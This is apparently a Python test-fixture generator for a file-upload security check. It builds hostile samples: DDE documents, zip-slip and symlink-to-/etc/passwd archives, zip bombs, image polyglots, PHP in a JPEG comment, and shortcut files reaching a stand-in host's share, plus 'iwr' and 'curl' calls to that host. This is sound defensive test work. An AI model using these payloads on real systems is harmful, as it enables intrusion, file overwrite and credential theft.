"""Attacks in archives and pictures, and files that are not what their names say."""

import io
import struct
import tarfile
import zipfile
import zlib

from attack import HOST, TIME, Attack, docx, zipped
from attack_html import BODIES, page
from attack_pdf_content import JS
from attack_word import OLE, PNG, field, paragraph
from pdf_writer import pdf

H = HOST.encode()
EVIL = docx(paragraph(field(f" DDEAUTO cmd {HOST}")))


def linked() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("a", TIME)
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def archives():
    yield "member-dde", zipped([("資料.docx", EVIL)])
    yield "member-pdf", zipped([("a.pdf", pdf(b"/OpenAction" + JS))])
    yield "member-html", zipped([("a.html", page(BODIES["script"]))])
    yield "member-exe", zipped([("a.exe", b"MZ" + H + bytes(60))])
    yield "member-exe-hidden", zipped([("a.txt", b"MZ\x90\0" + H + bytes(60))])
    yield "member-script", zipped([("a.js", f"new ActiveXObject('WScript.Shell').Run('{HOST}')")])
    yield (
        "member-url",
        zipped([("a.url", f"[InternetShortcut]\r\nURL=file://{HOST}/x\r\nIconFile=\\\\{HOST}\\x.ico\r\n")]),
    )
    yield "member-scf", zipped([("@a.scf", f"[Shell]\r\nIconFile=\\\\{HOST}\\x.ico\r\n")])
    yield (
        "member-library",
        zipped([("a.library-ms", f"<libraryDescription><url>\\\\{HOST}\\x</url></libraryDescription>")]),
    )
    yield "member-iqy", zipped([("a.iqy", f"WEB\n1\nhttp://{HOST}/x\n")])
    yield "member-hta", zipped([("a.hta", f"<script>new ActiveXObject('x') // {HOST}</script>")])
    yield "member-ini", zipped([("desktop.ini", f"[.ShellClassInfo]\r\nIconResource=\\\\{HOST}\\x\r\n")])
    yield "nested", zipped([("b.zip", zipped([("c.zip", zipped([("d.docx", EVIL)]))]))])
    deep = EVIL
    for n in range(12):
        deep = zipped([(f"{n}.zip" if n else "a.docx", deep)])
    yield "nested-deep", deep
    yield "name-parent", zipped([("../../evil.txt", HOST)])
    yield "name-absolute", zipped([("/etc/cron.d/evil", HOST)])
    yield "name-drive", zipped([("C:\\windows\\evil.txt", "x")])
    yield "name-backslash", zipped([("..\\..\\evil.txt", "x")])
    yield "name-rlo", zipped([("a\u202efdp.txt", "x")])
    yield "name-spaces", zipped([("a.pdf" + " " * 60 + ".exe", b"MZ" + bytes(60))])
    yield "name-device", zipped([("CON.txt", "x"), ("aux", "x"), ("a.txt:b", "x"), ("a. ", "x")])
    yield "name-twice", zipped([("a.txt", "x"), ("a.txt", HOST), ("A.TXT", HOST)])
    yield "name-null", zipped([("a.txt", "x")]).replace(b"a.txt", b"a\0txt")
    yield "name-utf8-overlong", zipped([("a..b.txt", "x")]).replace(b"a..b", b"a\xc0\xaeb")
    yield "link", linked()
    yield "behind", zipped([("a.txt", "x")]) + b"MZ" + H
    yield "before", b"MZ" + H + bytes(200) + zipped([("a.exe", b"MZ" + bytes(60))])
    yield "comment", zipped([("a.txt", "x")], comment=b"MZ" + H)
    yield "bomb", zipped([("a.txt", bytes(100 << 20))])
    yield "many", zipped([(f"{n}.txt", "") for n in range(25_000)])
    overlap = bytearray(zipped([("a.txt", b" " * 5000), ("b.txt", b" " * 5000)]))
    second = overlap.index(b"PK\x01\x02", overlap.index(b"PK\x01\x02") + 1)
    overlap[second + 42 : second + 46] = struct.pack("<I", 0)
    yield "overlap", bytes(overlap)
    flagged = bytearray(zipped([("a.docx", EVIL)]))
    flagged[6] |= 1
    flagged[flagged.index(b"PK\x01\x02") + 8] |= 1
    yield "encrypted-lie", bytes(flagged)
    yield "utf8-extra", zipped([("a.txt", "x")])[:28] + zipped([("a.txt", "x")])[28:]


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


SEGMENT = b"\xff\xe1" + struct.pack(">H", 2 + 6 + len(H) + 14) + b"Exif\0\0II*\0\x08\0\0\0\0\0\0\0\0\0" + H
# One grey block, baseline: tables of quantisation and codes by the standard's own example, the shortest that decodes.
JPEG = (
    b"\xff\xd8\xff\xdb\0\x43\0"
    + b"\x01" * 64
    + b"\xff\xc0\0\x0b\x08\0\x08\0\x08\x01\x01\x11\0"
    + b"\xff\xc4\0\x14\0\x01"
    + bytes(15)
    + b"\0"
    + b"\xff\xc4\0\x14\x10\x01"
    + bytes(15)
    + b"\0"
    + b"\xff\xda\0\x08\x01\x01\0\0\x3f\0"
    + b"\x3f\xff\xd9"
)
GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff"
GIF_FRAME = b",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0"


def tiff(tags: list[tuple[int, int, int, bytes]]) -> bytes:
    base = {
        256: (3, 1, b"\1\0\0\0"),
        257: (3, 1, b"\1\0\0\0"),
        258: (3, 1, b"\x08\0\0\0"),
        259: (3, 1, b"\1\0\0\0"),
        262: (3, 1, b"\1\0\0\0"),
        273: (4, 1, b"\x08\0\0\0"),
        277: (3, 1, b"\1\0\0\0"),
        278: (3, 1, b"\1\0\0\0"),
        279: (4, 1, b"\1\0\0\0"),
    }
    data, extra = b"II*\0\x0a\0\0\0\x7f\0", b""
    rows = sorted([*((tag, kind, n, value) for tag, (kind, n, value) in base.items()), *tags])
    start = len(data) + 2 + 12 * len(rows) + 4
    out = struct.pack("<H", len(rows))
    for tag, kind, n, value in rows:
        if len(value) > 4:
            value, extra = struct.pack("<I", start + len(extra)), extra + value
        out += struct.pack("<HHI", tag, kind, n) + value
    return data + out + bytes(4) + extra


def pictures():
    end = PNG[-12:]
    yield "png/behind.png", "bytes behind the end", PNG + b"PK\x03\x04" + H
    yield "png/text.png", "text", PNG[:-12] + chunk(b"tEXt", b"Comment\0<script>" + H) + end
    yield "png/packed-text.png", "packed text", PNG[:-12] + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(H)) + end
    yield (
        "png/xmp.png",
        "metadata with an entity",
        PNG[:-12] + chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<!DOCTYPE x SYSTEM 'http://" + H + b"'>") + end,
    )
    yield "png/exif.png", "Exif", PNG[:-12] + chunk(b"eXIf", b"II*\0" + H) + end
    yield "png/profile.png", "colour profile", PNG[:33] + chunk(b"iCCP", b"x\0\0" + zlib.compress(H * 20)) + PNG[33:]
    yield "png/private.png", "private chunk", PNG[:33] + chunk(b"prVt", b"MZ" + H) + PNG[33:]
    yield (
        "png/idat-tail.png",
        "bytes behind the pixels inside IDAT",
        PNG[:33] + chunk(b"IDAT", zlib.compress(b"\0\xff\xff\xff") + H) + end,
    )
    yield (
        "png/pixels-tail.png",
        "more pixels than there are",
        PNG[:33] + chunk(b"IDAT", zlib.compress(b"\0\xff\xff\xff" + H)) + end,
    )
    yield "png/polyglot-zip.png", "picture and archive", PNG + zipped([("a.js", HOST)])
    yield "png/polyglot-pdf.png", "picture and PDF", PNG[:33] + chunk(b"prVt", pdf(b"/OpenAction" + JS)) + PNG[33:]
    yield (
        "png/bomb.png",
        "60,000 x 60,000 pixels",
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(bytes(1 << 20)))
        + end,
    )
    yield "png/crc.png", "checksum that is not true", PNG[:29] + b"\0\0\0\0" + PNG[33:]
    yield "jpeg/exif.jpg", "Exif", JPEG[:2] + SEGMENT + JPEG[2:]
    yield (
        "jpeg/comment.jpg",
        "comment with PHP",
        JPEG[:2] + b"\xff\xfe" + struct.pack(">H", 2 + 9 + len(H)) + b"<?php x /" + H + JPEG[2:],
    )
    yield "jpeg/behind.jpg", "bytes behind the end", JPEG + b"MZ" + H
    yield "jpeg/polyglot-zip.jpg", "picture and archive", JPEG + zipped([("META-INF/MANIFEST.MF", HOST)])
    yield (
        "jpeg/profile.jpg",
        "colour profile",
        JPEG[:2] + b"\xff\xe2" + struct.pack(">H", 2 + 14 + len(H)) + b"ICC_PROFILE\0\1\1" + H + JPEG[2:],
    )
    yield (
        "jpeg/photoshop.jpg",
        "Photoshop block",
        JPEG[:2] + b"\xff\xed" + struct.pack(">H", 2 + 14 + len(H)) + b"Photoshop 3.0\0" + H + JPEG[2:],
    )
    yield "jpeg/html.jpg", "HTML under the name of a picture", page(BODIES["script"])
    yield "gif/comment.gif", "comment", GIF + b"!\xfe" + bytes([len(H)]) + H + b"\0" + GIF_FRAME + b";"
    yield (
        "gif/behind.gif",
        "archive of classes behind it (GIFAR)",
        GIF + GIF_FRAME + b";" + zipped([("X.class", b"\xca\xfe\xba\xbe" + H)]),
    )
    yield (
        "gif/application.gif",
        "block of a program",
        GIF + b"!\xff\x0bXMP DataXMP" + bytes([len(H)]) + H + b"\0" + GIF_FRAME + b";",
    )
    yield "gif/script.gif", "picture and script in one", b"GIF89a=1;" + JS + b"/*" + GIF[6:] + GIF_FRAME + b"*/;"
    head = struct.pack("<IIiiHHIIiiII", 54, 40, 1, 1, 1, 24, 0, 4, 0, 0, 0, 0)
    yield (
        "bmp/behind.bmp",
        "bytes behind the end",
        b"BM" + struct.pack("<IHH", 58, 0, 0) + head + b"\xff\xff\xff\0MZ" + H,
    )
    yield (
        "bmp/gap.bmp",
        "bytes between head and pixels",
        b"BM"
        + struct.pack("<IHH", 58 + len(H), 0, 0)
        + struct.pack("<I", 54 + len(H))
        + head[4:]
        + H
        + b"\xff\xff\xff\0",
    )
    yield "tiff/exif.tif", "Exif and maker", tiff([(271, 2, len(H) + 1, H + b"\0"), (34665, 4, 1, b"\x08\0\0\0")])
    yield "tiff/xmp.tif", "XMP", tiff([(700, 1, len(H) + 9, b"<x:xmp>  " + H)])
    yield "tiff/behind.tif", "bytes behind the end", tiff([]) + b"MZ" + H
    yield (
        "webp/exif.webp",
        "Exif",
        b"RIFF"
        + struct.pack("<I", 4 + 8 + len(H) + len(H) % 2)
        + b"WEBPEXIF"
        + struct.pack("<I", len(H))
        + H
        + b"\0" * (len(H) % 2),
    )


def programs():
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../evil"), io.BytesIO())
    for name, data in (
        ("a.docx", b"MZ\x90\0" + H),
        ("a.pdf", b"\x7fELF\2\1\1" + H),
        ("a.txt", b"MZ\x90\0\3" + H + bytes(60)),
        ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"),
        ("a.xlsx", OLE + H),
        ("a.doc", OLE + H),
        ("a.lnk", b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + H),
        ("a.hta", b"<script>" + H),
        ("a.js", b"WScript.Echo('" + H + b"')"),
        ("a.vbs", b'CreateObject("' + H + b'")'),
        ("a.url", b"[InternetShortcut]\r\nURL=file://" + H),
        ("a.iqy", b"WEB\n1\nhttp://" + H),
        ("a.slk", b'ID;P\nC;X1;Y1;EEXEC("' + H + b'")\nE\n'),
        ("a.chm", b"ITSF\3\0\0\0" + H),
        ("a.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64) + H),
        ("a.iso", bytes(32769) + b"CD001\1" + H),
        ("a.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + H),
        ("a.tar", tar.getvalue()),
        ("a.ps1", b"iwr http://" + H),
        ("a.bat", b"@curl " + H),
        ("a.scf", b"[Shell]\r\nIconFile=\\\\" + H + b"\\x"),
        ("a.reg", b"Windows Registry Editor Version 5.00\r\n" + H),
        ("a.xml", b"<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook/>" + H),
        (
            "a.mht",
            b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a\r\nContent-Location: http://"
            + H
            + b"\r\n\r\nx",
        ),
        ("a.settingcontent-ms", b"<PCSettings><DeepLink>" + H + b"</DeepLink></PCSettings>"),
    ):
        yield f"type/{name}", data


SCRIPTS = set(
    "a.png a.tar a.hta a.js a.vbs a.url a.iqy a.slk a.ps1 a.bat a.scf a.reg a.xml a.mht a.settingcontent-ms".split()
)
SEEN_TYPES = {
    "a.xlsx",
    "a.doc",
    "a.png",
    "a.pdf",
    "a.docx",
    "a.txt",
    "a.lnk",
    "a.chm",
    "a.one",
    "a.class",
    "a.hta",
    "a.iso",
    "a.tar",
}
UNSEEN_ZIPS = set("member-ini many utf8-extra name-utf8-overlong name-null".split())
UNSEEN_PICTURES = set("png/idat-tail.png png/pixels-tail.png png/bomb.png bmp/gap.bmp tiff/behind.tif".split())


def attacks():
    for name, data in archives():
        # Names and texts of members that nothing follows may stay.
        shown = name in ("name-twice", "name-parent", "name-absolute", "member-ini", "member-url", "member-scf")
        yield Attack(f"zip/{name}.zip", name, data, seen=name not in UNSEEN_ZIPS, shown=shown)
    for name, what, data in pictures():
        yield Attack(name, what, data, seen=name not in UNSEEN_PICTURES)
    for name, data in programs():
        plain = name.rsplit("/", 1)[1]
        # A script may come out as text under a name that runs nothing; a program may not come out at all.
        script = plain in SCRIPTS
        yield Attack(
            name,
            f"a program or its like as {plain}",
            data,
            seen=plain in SEEN_TYPES,
            refused=not script,
            shown=script,
        )
    for name, data in (
        ("png/plain.png", PNG),
        ("jpeg/plain.jpg", JPEG),
        ("gif/plain.gif", GIF + GIF_FRAME + b";"),
        ("zip/plain.zip", zipped([("資料.docx", docx("")), ("a.png", PNG)])),
    ):
        yield Attack(name, "nothing", data, control=True, seen=False)
